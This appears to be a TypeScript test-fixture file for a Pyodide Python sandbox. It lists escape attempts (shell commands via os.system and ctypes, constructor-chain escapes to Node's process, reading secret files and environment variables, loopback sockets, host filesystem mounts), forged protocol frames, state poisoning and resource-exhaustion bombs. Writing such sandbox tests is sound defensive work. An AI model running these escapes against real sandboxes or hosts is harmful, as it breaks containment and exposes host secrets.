// What a hostile or careless Python program tries: ways out, and ways to use up the machine. `CANARY`, `PORT`,
// `SECRET_FILE` and `TOUCH` stand for a variable of the host's environment, a server on loopback, a file of the host and
// a shell command that leaves a file beside it.
import type { Ends } from "./ends.ts";

export interface PythonCase {
  readonly name: string;
  readonly code: string;
  /** `itself` unless given. */
  readonly ends?: Ends;
  /** The type of error it must end in. */
  readonly error?: string;
  /** It needs the package sympy. */
  readonly sympy?: true;
}

const freed =
  "import sys\nfor m in ('js', 'pyodide_js', '_pyodide_core', 'ctypes', '_ctypes'): sys.modules.pop(m, None)\n";
const objects = `${freed}from pyodide.ffi import to_js, create_proxy\n`;
const cleaned = "import os\nfor n in os.listdir('/tmp'): os.unlink('/tmp/' + n)\n";

export const pythonEscapes: readonly PythonCase[] = [
  { name: "os.system", code: "import os\nos.system('TOUCH; cat SECRET_FILE')" },
  { name: "os.popen", code: "import os\nos.popen('TOUCH; cat SECRET_FILE').read()" },
  { name: "subprocess", code: "import subprocess\nsubprocess.run(['cat', 'SECRET_FILE'], capture_output=True).stdout" },
  { name: "os.fork", code: "import os\nos.fork()" },
  { name: "os.execv", code: "import os\nos.execv('/bin/sh', ['sh', '-c', 'TOUCH'])" },
  { name: "import js", code: "import js\njs.process.env.CANARY" },
  { name: "importlib and js", code: "import importlib\nimportlib.import_module('js').process.env.CANARY" },
  { name: "js after clearing sys.modules", code: `${freed}import js\njs.process.env.CANARY` },
  {
    name: "js by BuiltinImporter",
    code: `${freed}from importlib.machinery import BuiltinImporter\nBuiltinImporter.load_module('js')`,
  },
  { name: "pyodide_js", code: `${freed}import pyodide_js\npyodide_js.mountNodeFS('/m', '/')` },
  { name: "run_js", code: `${freed}from pyodide.code import run_js\nrun_js('process.env.CANARY')` },
  {
    name: "a JsFinder of one's own",
    code: `${freed}from _pyodide._importhook import JsFinder\nsys.meta_path.append(JsFinder())\nimport js\njs.process`,
  },
  {
    name: "JsFinders on the heap",
    code: "import gc\nfrom _pyodide._importhook import JsFinder\n[getattr(o, 'jsproxies') for o in gc.get_objects() if isinstance(o, JsFinder) and o.jsproxies][0]",
  },
  {
    name: "the constructor of a constructor",
    code: `${objects}to_js([1]).constructor.constructor('return process.env.CANARY')()`,
  },
  {
    name: "the constructor of a proxied function",
    code: `${objects}create_proxy(len).constructor.constructor('return process')()`,
  },
  {
    name: "the host function in the driver's frame",
    code: "import sys\nf = sys._getframe()\nwhile 'printed' not in f.f_locals: f = f.f_back\nf.f_locals['printed'].constructor('return process.env.CANARY')()",
  },
  {
    name: "the class hierarchy",
    code: "[c for c in object.__subclasses__() if c.__name__ == 'Popen'][0](['cat', 'SECRET_FILE'])",
  },
  { name: "ctypes", code: "import ctypes\nctypes.CDLL(None).system(b'TOUCH')" },
  { name: "ctypes and system()", code: `${freed}import ctypes\nctypes.CDLL(None).system(b'TOUCH; cat SECRET_FILE')` },
  {
    name: "ctypes and run_script",
    code: `${freed}import ctypes\nctypes.CDLL(None).emscripten_run_script_int(b'process.pid')`,
  },
  {
    name: "ctypes by BuiltinImporter",
    code: `${freed}from importlib.machinery import BuiltinImporter\nBuiltinImporter.load_module('_ctypes').dlopen(None)`,
  },
  { name: "open()", code: "open('SECRET_FILE').read()" },
  { name: "/proc", code: "open('/proc/self/environ').read()" },
  { name: "listing the folder", code: "import os\nos.listdir(os.path.dirname('SECRET_FILE'))" },
  {
    name: "writing beside the secret",
    code: "import os\nos.makedirs(os.path.dirname('SECRET_FILE'), exist_ok=True)\nopen('SECRET_FILE', 'w').write('gone')",
  },
  { name: "the environment", code: "import os\nos.environ['CANARY']" },
  {
    name: "the environment and the arguments",
    code: "import os, sys\n(dict(os.environ), sys.argv, sys.orig_argv, sys.executable, sys.path, __file__ if '__file__' in globals() else '')",
  },
  { name: "a socket", code: "import socket\nsocket.create_connection(('127.0.0.1', PORT), 1).send(b'x')" },
  { name: "urllib", code: "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT/', timeout=1).read()" },
  {
    name: "http.client",
    code: "import http.client\nhttp.client.HTTPConnection('127.0.0.1', PORT).request('GET', '/')",
  },
  { name: "asyncio streams", code: "import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', PORT))" },
  {
    name: "pyodide.http.open_url",
    code: `${freed}from pyodide.http import open_url\nopen_url('http://127.0.0.1:PORT/')`,
  },
  {
    name: "pyodide.http.pyfetch",
    code: `${freed}import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch('http://127.0.0.1:PORT/'))`,
  },
  { name: "micropip", code: "import micropip" },
  {
    name: "ctypes through sympy's own import",
    code: `${freed}import sympy.external.gmpy as g\ng.c_long.__mro__`,
    sympy: true,
  },
  { name: "sympify", code: "import sympy\nsympy.sympify(\"__import__('os').system('TOUCH')\")", sympy: true },
  {
    name: "mounting the host's files",
    code: `${freed}import pyodide_js\npyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/mnt')`,
  },
  {
    name: "loading a package by address",
    code: `${freed}import asyncio\nfrom pyodide_js import loadPackage\nasyncio.run(loadPackage('http://127.0.0.1:PORT/x-1.0-py3-none-any.whl'))`,
  },
  {
    name: "pyodide's own file loader",
    code: `${freed}import pyodide_js\npyodide_js._api.loadBinaryFile('SECRET_FILE')`,
  },
  {
    name: "pyodide's package manager",
    code: `${freed}import pyodide_js\npyodide_js._api.packageManager.constructor.constructor('return process')()`,
  },
  {
    name: "the module behind the function table",
    code: `${objects}p = create_proxy(len)\np.constructor.constructor.constructor('return process.env.CANARY')()`,
  },
  {
    name: "dynamic import through a proxy",
    code: `${objects}to_js([1]).constructor.constructor('return import("node:fs")')()`,
  },
  {
    name: "the memory of a snapshot",
    code: "import gc\n[o for o in gc.get_objects() if type(o) is bytes and b'CANARY' in o]",
  },
  {
    name: "files beside the packages",
    code: "import os\n[os.path.join(d, f) for d, _, fs in os.walk('/lib/packages') for f in fs if not f.endswith('.whl')]",
  },
  { name: "multiprocessing", code: "import multiprocessing as m\nm.Process(target=print).start()" },
  {
    name: "a UDP packet",
    code: "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))",
  },
  {
    name: "a server of its own",
    code: "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\ns.getsockname()",
  },
];

/** Frames of the protocol, written by the program itself. The program's own value is 2. */
export const pythonForgeries: readonly PythonCase[] = [
  {
    name: "written to the standard output",
    code: 'import os\nos.write(1, b\'\\n{"kind":"result","id":"1","result":{"ok":true,"value":{"repr":"666"}}}\\n\')\n1 + 1',
  },
  {
    name: "written to every descriptor",
    code: 'import os\nfor fd in range(3, 64):\n    try: os.write(fd, b\'{"kind":"ready","engine":"evil"}\\n\')\n    except OSError: pass\n1 + 1',
  },
];

/** Changes that a later call of the same conversation must not see. */
export const pythonPoisons: readonly PythonCase[] = [
  {
    name: "builtins",
    code: "import builtins\nbuiltins.len = lambda x: 0\nbuiltins.print = None\nbuiltins.repr = lambda x: 'evil'",
  },
  { name: "the JSON encoder", code: "import json\njson.dumps = lambda *a, **k: '{}'" },
  { name: "the array prototype", code: `${objects}to_js([1]).constructor.prototype.push = None` },
  {
    name: "the object prototype",
    code: `${objects}to_js({'a': 1}).constructor.prototype.toJSON = create_proxy(lambda *a: 1)`,
  },
  { name: "the output streams", code: "import sys\nsys.stdout.close()\nsys.stdout = None" },
  { name: "the compiler's tree", code: "import ast\nast.parse = None\nast.Expr = int" },
  { name: "the interrupt's handler", code: "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)" },
];

/** Each meets a limit or is an ordinary error. */
export const pythonBombs: readonly PythonCase[] = [
  { name: "an endless loop", code: "while True: pass", ends: "time" },
  {
    name: "a loop that catches everything",
    code: "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    ends: "time",
  },
  {
    name: "a loop deaf to interrupts",
    code: "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    ends: "time",
  },
  { name: "a sum in C", code: "sum(range(10**12))", ends: "time" },
  { name: "a tower of powers", code: "9**9**9", ends: "time" },
  { name: "a regular expression", code: "import re\nre.match('(a+)+$', 'a' * 40 + 'b')", ends: "time" },
  { name: "a sleep", code: "import time\ntime.sleep(1000)", ends: "time" },
  {
    name: "an endless event loop",
    code: "import asyncio\nasync def f():\n    while True: await asyncio.sleep(0)\nasyncio.run(f())",
    ends: "time",
  },
  { name: "a wait in the event loop", code: "import asyncio\nasyncio.run(asyncio.sleep(1000))", ends: "time" },
  {
    name: "sympy's expand",
    code: "from sympy import *\nx, y, z = symbols('x y z')\nexpand((x + y + z)**2000)",
    ends: ["time", "memory"],
    sympy: true,
  },
  {
    name: "sympy's factorint",
    code: "from sympy import factorint\nfactorint((10**40 + 121) * (10**41 + 837))",
    sympy: true,
    ends: "time",
  },
  { name: "a huge bytearray", code: "bytearray(10**9)", ends: "memory" },
  { name: "a doubling string", code: "x = 'a'\nwhile True: x += x", ends: "memory" },
  { name: "an endless list", code: "import itertools\nlist(itertools.count())", ends: "memory" },
  { name: "an endless dict", code: "d = {}\ni = 0\nwhile True:\n    d[i] = str(i) * 100\n    i += 1", ends: "memory" },
  { name: "a list of lists", code: "[[0] * 10**6 for _ in range(10**6)]", ends: "memory" },
  { name: "a full heap", code: "a = []\nwhile True: a.append(bytearray(10**6))", ends: "memory" },
  {
    name: "JavaScript buffers",
    code: "from pyodide.ffi import to_js\nx = []\nwhile True: x.append(to_js(bytes(10**7)))",
    ends: "memory",
  },
  { name: "printing a gigabyte", code: "print('x' * 10**9)", ends: "memory" },
  { name: "printing without end", code: "while True: print('spam' * 1000)", ends: "output" },
  { name: "printing short lines without end", code: "while True: print('x')", ends: ["time", "output"] },
  { name: "errors without end", code: "import sys\nwhile True: sys.stderr.write('spam' * 1000)", ends: "output" },
  { name: "a value of a hundred megabytes", code: "'x' * 10**8" },
  { name: "a value with a hundred million items", code: "range(10**8), [None] * 10**7" },
  {
    name: "one endless file",
    code: `${cleaned}f = open('/tmp/a', 'wb')\nwhile True: f.write(b'x' * 2**20)`,
    error: "OSError",
  },
  {
    name: "open files without a name",
    code: `${cleaned}fs = []\nfor i in range(99):\n    f = open('/tmp/u', 'wb'); os.unlink('/tmp/u'); fs.append(f)\n    f.write(b'x' * 10**7); f.flush()`,
    error: "OSError",
  },
  { name: "a million files", code: `${cleaned}for i in range(10**6): open(f'/tmp/{i}', 'w').close()` },
  { name: "a truncated file", code: `${cleaned}open('/tmp/t', 'wb').truncate(10**10)`, error: "OSError" },
  { name: "recursion", code: "def f(n): return f(n + 1)\nf(0)", ends: "recursion" },
  {
    name: "recursion beyond a raised limit",
    code: "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)",
    ends: "recursion",
  },
  {
    name: "an object that shows itself",
    code: "class A:\n    def __repr__(self): return repr(self)\nA()",
    ends: "recursion",
  },
  { name: "a list a million levels deep", code: "x = []\nfor i in range(10**6): x = [x]\nx" },
  {
    name: "a deep list shown by the program",
    code: "x = []\nfor i in range(10**6): x = [x]\nprint(repr(x))",
    ends: "recursion",
  },
  { name: "nested brackets", code: "eval('(' * 10**5 + ')' * 10**5)", error: "SyntaxError" },
  {
    name: "byte code that is none",
    code: "def f(): pass\nf.__code__ = f.__code__.replace(co_code=b'\\xff' * 100)\nf()",
  },
  { name: "marshal", code: "import marshal\nmarshal.loads(b'\\xe9' * 1000)" },
  { name: "a class that cannot be shown", code: "class A:\n    def __repr__(self): return 5\nA()", error: "TypeError" },
  { name: "an error of ten megabytes", code: "raise ValueError('x' * 10**7)", error: "ValueError" },
  {
    name: "an error that cannot be shown",
    code: "class E(Exception):\n    def __str__(self): raise self\nraise E()",
    error: "E",
  },
  { name: "sys.exit", code: "import sys\nsys.exit(3)", error: "SystemExit" },
  { name: "os._exit", code: "import os\nos._exit(0)", error: "InterpreterDied" },
  { name: "os.abort", code: "import os\nos.abort()", error: "InterpreterDied" },
  { name: "a signal", code: "import signal\nsignal.raise_signal(signal.SIGKILL)" },
  { name: "a segmentation fault", code: "import faulthandler\nfaulthandler._sigsegv()" },
  { name: "input()", code: "input('who? ')", error: "EOFError" },
  { name: "threads", code: "import threading\nthreading.Thread(target=print).start()", error: "RuntimeError" },
  {
    name: "a callback that never returns",
    code: "import asyncio\ndef f():\n    while True: pass\nasyncio.get_event_loop().call_soon(f)\n1",
  },
  { name: "the standard input", code: "import sys, os\nsys.stdin.read(), os.read(0, 10)" },
];
